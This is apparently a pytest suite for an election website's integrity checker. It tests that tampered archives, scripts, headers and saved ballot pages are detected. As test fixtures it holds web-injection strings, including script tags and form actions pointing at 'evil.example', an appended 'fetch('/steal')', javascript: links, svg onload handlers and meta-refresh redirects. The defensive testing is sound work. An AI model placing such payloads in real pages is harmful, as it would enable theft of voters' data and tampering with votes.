"""What is seen of a lying site from outside, and on a ballot page that a voter saved."""
import glob
import os
import re
import subprocess

import pytest
import requests
from conftest import road
from test_page_trust import LISTS, PAGE, FalseSeal, between, manifest, signed_in  # noqa: F401 - between is a fixture
from test_pages import check


def test_a_site_that_gives_another_list_or_archive_is_observed(site, between):
    seal = manifest(site)
    assert "the site gives what was sealed" in site.run("observe", site.address, "--seal", seal).stdout
    between.file = lambda content, path: content.replace(b"uuid", b"UUID") if path.endswith("sealed.json") else content
    assert "another /assets/sealed.json than the sealed one" in site.run("observe", site.address, "--seal", seal, status=1).stderr
    between.file = lambda content, path: content
    # Another ballot's archive in its place, one without its beginning, none at all.
    other = requests.get(f"{site.address}/box/suppleants-ouvriers/archive.bel", timeout=20).content
    for content, words in ((other, "has another election document"), (other[512:], "cannot be read"), (other[:2000], "breaks off"),
                           (b"", "breaks off")):
        between.archive = lambda given, path, content=content: content if "titulaires-ouvriers" in path else given
        refused = site.run("observe", site.address, "--seal", seal, status=1).stderr
        assert f"/box/titulaires-ouvriers/archive.bel {words}" in refused and refused.count("archive.bel") == refused.count("titulaires-ouvriers/")
    between.archive = lambda given, path: 1 / 0
    assert "cannot fetch /box/titulaires-cadres/archive.bel" in site.run("observe", site.address, "--seal", seal, status=1).stderr


def test_other_credentials_or_trustees_in_the_archive_are_observed(site, between):
    seal = manifest(site)
    for column, words in (("trustees", "list of trustees"), ("credentials", "list of credentials")):
        [[honest]] = site.sql(f"SELECT {column} FROM polling_ballot WHERE name = 'titulaires-ouvriers'")
        site.sql(f"UPDATE polling_ballot SET {column} = ? WHERE name = 'titulaires-ouvriers'", honest + b"\n")
        for path in glob.glob(f"{site.store}.box/*"):
            os.remove(path)
        refused = site.run("observe", site.address, "--seal", seal, status=1).stderr
        assert f"/box/titulaires-ouvriers/archive.bel has another {words} than the sealed one" in refused
        site.sql(f"UPDATE polling_ballot SET {column} = ? WHERE name = 'titulaires-ouvriers'", honest)


def test_another_script_behind_the_address_with_a_version_is_observed(site, between):
    seal = manifest(site)
    between.every = lambda text: text.replace("/assets/site.js?v=", "/assets/site.js?v=0")
    assert "/ holds a script that is not sealed" in site.run("observe", site.address, "--seal", seal, status=1).stderr
    between.every = lambda text: text
    # The same path, another content where the version is asked for: a browser's way, not an observer's.
    between.versioned = lambda content, path: content + b"\nfetch('/steal');"
    assert "is given another /assets/site.js?v=" in site.run("observe", site.address, "--seal", seal, status=1).stderr
    # What only voters' pages load, and one after the other.
    for name in ("ballot.js", "sealer.js", "ballot.wasm", "sealed.json", "seal.json", "session.js"):
        between.versioned = lambda content, path, name=name: content + b" " if path.endswith(f"/{name}") else content
        said = site.run("observe", site.address, "--seal", seal, status=1).stderr
        assert f"is given another /assets/{name}?v=" in said and f"another /assets/{name} " not in said


@pytest.mark.parametrize("old, new, words", [
    ("</body>", '<SCRIPT src="//evil.example/a.js"></SCRIPT></body>', "is no page of this program"),
    ("</body>", '<script data-src="/assets/site.js" src="//evil.example/a.js"></script></body>', "a script that is not sealed: //evil"),
    ("<head>", '<head><base href="//evil.example/">', "holds <base>"),
    ("</body>", "<svg/onload=alert(1)></body>", "is no page of this program"),
    ("</body>", '<svg onload="alert(1)"></svg></body>', "holds <svg>"),
    ("</body>", '<iframe src="/"></iframe></body>', "holds <iframe>"),
    ("<head>", '<head><meta http-equiv="refresh" content="0;url=//evil.example">', "holds the attribute http-equiv"),
    ("</body>", '<a href="javascript:steal()">Voter</a></body>', "leads to javascript:"),
    ("</body>", "<!-- <script> --></body>", "is no page of this program"),
    ('action="/', 'action="//evil.example/', "with the address //evil.example/"),
    ("<body", '<body onclick="steal()"', "holds the attribute onclick"),
    ("</body>", "<style>main { display: none }</style></body>", "holds <style>"),
    ("<noscript>", '<noscript><meta http-equiv="refresh" content="0">', "http-equiv"),
    ('rel="stylesheet" href="/assets/style.css', 'rel="stylesheet" href="/assets/console.css', "loads /assets/console.css"),
])
def test_a_page_that_runs_something_else_is_observed(site, between, old, new, words):
    seal = manifest(site)
    between.every = lambda text: text.replace(old, new)
    pages = [requests.get(f"{site.address}{path}", timeout=20).text for path in ("/", "/box", "/help", "/lost")]
    assert any(new in page for page in pages), "nothing was changed"
    assert words in site.run("observe", site.address, "--seal", seal, status=1).stderr


@pytest.mark.parametrize("more, policy, words", [
    ([("Link", "</assets/x.css>; rel=stylesheet")], None, "is sent with the header link: </assets/x.css>; rel=stylesheet"),
    ([("Refresh", "0; url=//evil.example/")], None, "is sent with the header refresh"),
    ([], lambda value: value.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'"), "without the policy"),
    ([], lambda value: value.replace("script-src 'self'", "script-src 'self' https://evil.example"), "without the policy"),
    ([], lambda value: "default-src 'self'", "without the policy"),
], ids=["link", "refresh", "inline", "elsewhere", "loose"])
def test_what_the_headers_of_a_page_allow_is_observed(site, between, more, policy, words):
    seal = manifest(site)
    assert site.run("observe", site.address, "--seal", seal).returncode == 0
    between.more, between.policy = more, policy or between.policy
    assert words in site.run("observe", site.address, "--seal", seal, status=1).stderr


def save(someone, path=PAGE):
    """The file that the page's button writes."""
    someone.open(path)
    someone.wait_still()
    folder = f"{someone.site.folder}/saved"
    os.makedirs(folder, exist_ok=True)
    someone.driver.execute_cdp_cmd("Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": folder})
    for old in glob.glob(f"{folder}/*"):
        os.remove(old)
    someone.driver.find_element("css selector", "#control summary").click()
    someone.driver.find_element("id", "save").click()
    road.wait_until(lambda: glob.glob(f"{folder}/*.html") and not glob.glob(f"{folder}/*.crdownload"), 20)
    [file] = glob.glob(f"{folder}/*.html")
    return file


def judge(site, seal, file):
    """What observing says of a saved page: None where it is the sealed one."""
    done = subprocess.run(site.command("observe", site.address, "--seal", seal, "--page", file), capture_output=True, text=True, timeout=120)
    assert done.returncode in (0, 1), done.stderr
    return done.stderr if done.returncode else None


@pytest.mark.parametrize("language", ["fr", "en"])
def test_a_saved_page_holds_no_secret_and_is_the_sealed_one(site, visitor, between, language):
    seal, given = manifest(site), {}

    def page(text, path):
        given["credential"] = re.search(r'data-credential="([^"]+)"', text).group(1)
        given["form"] = re.search(r'name="form" value="([^"]+)"', text).group(1)
        given["code"] = re.search(r'id="support-code">([^<]+)', text).group(1)
        return text
    between.page = page
    jeanne = signed_in(site, visitor)
    jeanne.open(PAGE + f"?lang={language}").mark(LISTS[0] if language == "fr" else jeanne.driver.find_element("css selector", "label.choice").text)
    file = save(jeanne, PAGE + f"?lang={language}")
    with open(file, encoding="utf-8") as source:
        text = source.read()
    assert set(given) == {"credential", "form", "code"}
    for secret in (*given.values(), jeanne.driver.get_cookies()[0]["value"], 'checked=""'):
        assert secret not in text
    assert judge(site, seal, file) is None
    check(jeanne, f"control-{language}")


def test_a_saved_page_tells_what_a_server_changed(site, visitor, between):
    seal = manifest(site)
    jeanne = signed_in(site, visitor)
    with open(save(jeanne), encoding="utf-8") as source:
        honest = source.read()
    first, second, *_ = [element.text for element in jeanne.driver.find_elements("css selector", "label.choice span")]
    between.swap_labels(first, second)
    assert "are drawn as" in judge(site, seal, save(jeanne))
    between.swap_key([[0, 0, 0, 1]])
    assert "the election document in the page is not the sealed one" in judge(site, seal, save(jeanne))
    # The changed page's list of sealed ballots goes with its digest: the voter's page is content, the comparison is not.
    between.page = lambda text, path: re.sub(r'data-sealed-digest="[^"]*"', 'data-sealed-digest="sha256-' + "A" * 43 + '="', text)
    assert "wants /assets/sealed.json" in judge(site, seal, save(jeanne))
    FalseSeal(between).wear()
    assert "the page shows the seal" in judge(site, seal, save(jeanne))
    # By hand, what no browser test needs to draw.
    first_label = re.search(r'<label class="choice">', honest).group()
    fieldset = re.search(r"<fieldset.*?</fieldset>", honest, re.S).group()
    for old, new, words in (
            ("</body>", '<script src="/assets/pow.js"></script></body>', "runs other scripts"),
            ("</body>", "<script>vote()</script></body>", "runs other scripts"),
            ("</body>", '<iframe src="/"></iframe></body>', "holds <iframe>"),
            ("</head>", '<meta http-equiv="refresh" content="0;url=/kiosk/end"></head>', 'the attribute http-equiv="refresh"'),
            (fieldset, f"<details><summary>Plus</summary>{fieldset}</details>", "a question stands inside <details>"),
            ("</head>", "<style>.choice { display: none }</style></head>", "holds <style>"),
            ('rel="stylesheet" href="/assets/style.css', 'rel="stylesheet" href="/assets/console.css', "loads /assets/console.css"),
            ("</legend>", '</legend><img src="/assets/logo.svg" alt="">', "question 1 holds <img>"),
            ("<body>", '<body onload="vote()">', 'the attribute onload="vote()"'),
            ('<h2 id="review-title">', '<h2 id="review-title" style="display:none">', "the attribute style"),
            ('<form method="post" action="/receipt', '<form method="post" action="https://x.example/receipt', "a form is sent to"),
            ('data-path="/ballots/titulaires-ouvriers', 'data-path="/ballots/suppleants-ouvriers', "sends its ballot to"),
            ('data-credential=""', 'data-credential="abc"', "keep it secret"),
            ('name="form" value=""', 'name="form" value="1"', "keep it secret"),
            ("<legend>", "<legend>Ne pas : ", "question 1 reads"),
            (first_label, '<label class="choice" hidden="">', "is hidden"),
            (first_label, '<label class="skip choice">', 'is drawn as "skip choice"'),
            (first_label, '<label class="choice" aria-label="Autre">', 'question 1 has <label> with aria-label="Autre"'),
            ('value="1"', 'value="1" aria-labelledby="ballot"', "question 1 has <input> with aria-labelledby"),
            ('aria-describedby="rule-1"', 'aria-describedby="ballot"', "question 1 has <input> with aria-describedby"),
            ("<legend>", '<legend aria-label="Autre">', "question 1 has <legend> with aria-label"),
            ('<p class="hint" id="as">', '<p class="hint" id="rule-1">', "is not the first of its name"),
            ('value="1"', 'value="9"', "do not stand at their answers"),
            ('data-most="1"', 'data-most="2"', "another number of answers"),
            ("Vote blanc</span>", "Liste nulle</span>", "are drawn as"),
            ("<!DOCTYPE html>", "", "is not a page saved by the ballot page's own button"),
            ("/assets/ballot.js?v=", "/assets/ballot.js?v=0", "not sealed"),
            ('class="seal">', 'class="seal">0', "the page shows the seal"),
            ('id="ballot" translate="no">', 'id="ballot" translate="no">Autre ', "is headed"),
            ('<html lang="fr">', '<html lang="de">', 'in the language "de"')):
        assert old in honest, old
        path = f"{site.folder}/changed.html"
        with open(path, "w", encoding="utf-8") as file:
            file.write(honest.replace(old, new, 1))
        found = judge(site, seal, path)
        assert found and words in found, (words, found)
